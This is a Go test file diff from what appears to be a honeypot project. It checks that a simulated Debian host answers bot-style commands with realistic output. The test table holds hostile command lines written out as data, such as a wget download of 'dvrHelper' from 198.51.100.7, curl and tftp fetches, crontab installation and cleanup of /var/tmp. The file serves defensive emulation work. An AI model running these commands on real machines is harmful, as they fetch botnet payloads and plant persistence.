@@ -1,13 +1,19 @@
 package programs
 
 import (
+	"context"
 	"net/netip"
 	"os"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
+	"time"
 
-	"github.com/lapwing-defence/lapwing/internal/host/kernel"
+	"github.com/lapwing-defence/lapwing/internal/clock"
+	"github.com/lapwing-defence/lapwing/internal/host"
+	"github.com/lapwing-defence/lapwing/internal/host/netcmd"
+	"github.com/lapwing-defence/lapwing/internal/persona"
 	"github.com/lapwing-defence/lapwing/internal/sharedtest"
 )
 
@@ -94,6 +100,41 @@ var answers = []struct {
 	{"/usr/bin/tee", `^$`, 0},
 	{"ulimit -n", `^$`, 0},
 	{"sudo pkill", `^$`, 1},
+	{"uname", `^Linux\n$`, 0},
+	{"lscpu | sed", `^$|@ \d\.\d\dGHz\n$`, 0},
+	{"locate", `^bash: line 1: locate: command not found\n$`, 127},
+	{"echo SSH_TEST_OK", `^SSH_TEST_OK\n$`, 0},
+	{"echo xsec", `^xsec\n$`, 0},
+	{"rm -rf /var/tmp/dota*", `^$`, 0},
+	{`echo "root toucan"`, `^$`, 0},
+	{"sleep 15s", `^$`, 0},
+	{"/bin/busybox ps;", `(?s)PID +USER.*ECCHI: applet not found\n$`, 127},
+	{"cat /proc/mounts;", `(?s)^sysfs /sys sysfs .*SMJKD: applet not found\n$`, 127},
+	{"dd bs=52", `(?s)dd: failed to open '\.s': No such file or directory\ncat: \.s: No such file or directory\nbash: line 1: \.s: No such file or directory\n$`, 1},
+	{"rm .s;", `^rm: cannot remove '\.s': No such file or directory\n$`, 1},
+	{">/etc/.ptmx", `^$`, 0},
+	{"/bin/busybox cat", `^\x7fELF\x02\x01`, 0},
+	{"cat /bin/echo", `^\x7fELF\x02\x01`, 0},
+	{"nohup curl", `(?s)% Total.*Dload`, 0},
+	{"busybox tftp", `^$`, 0},
+	{"wget http://198.51.100.7/bin/dvrHelper", `(?s)saved`, 0},
+	{"scp -tr", `^\x00\x01scp: protocol error`, 1},
+	{"LC_ALL=C crontab -", `^"-":1: bad minute\nerrors in crontab file, can't install\.\n$`, 1},
+	{"ping;", `(?s)usage error: Destination address required.*tftp: command not found.*sh: 0: cannot open rr: No such file\n$`, 2},
+}
+
+// quick is a clock on which nobody waits.
+type quick struct{ clock.Clock }
+
+func (quick) Sleep(context.Context, time.Duration) error { return nil }
+
+func quickHost(t *testing.T) *host.Host {
+	t.Helper()
+	p, err := persona.Generate("debian-server", 7, time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return host.New(host.Config{Name: "files", Persona: p, Programs: All(), Clock: quick{clock.System()}, Net: netcmd.World{Downloads: "serve"}})
 }
 
 func TestAttackCommands(t *testing.T) {
@@ -107,11 +148,14 @@ func TestAttackCommands(t *testing.T) {
 			for _, l := range lines {
 				cmd, _, ok := strings.Cut(l, "\t")
 				exact := !strings.ContainsAny(a.line, " /.:>")
+				if slices.ContainsFunc(lines, func(l string) bool { return strings.HasPrefix(l, a.line+"\t") }) && cmd != a.line {
+					continue // the table has the very line
+				}
 				if !ok || !strings.HasPrefix(cmd, a.line) || exact && cmd != a.line && !strings.HasPrefix(cmd, a.line+" ") {
 					continue
 				}
 				// Each line meets a host of its own, as most bots do.
-				v := testHost(t, kernel.Limits{}).Visit(t.Context(), netip.MustParseAddr("198.51.100.7"))
+				v := quickHost(t).Visit(t.Context(), netip.MustParseAddr("198.51.100.7"))
 				out, rc := run(t, v, cmd, "stdin data\n")
 				if !regexp.MustCompile(a.want).MatchString(out) || rc != a.status {
 					t.Errorf("%q\ngives [%d] %.400q\nwant  [%d] %s", cmd, rc, out, a.status, a.want)
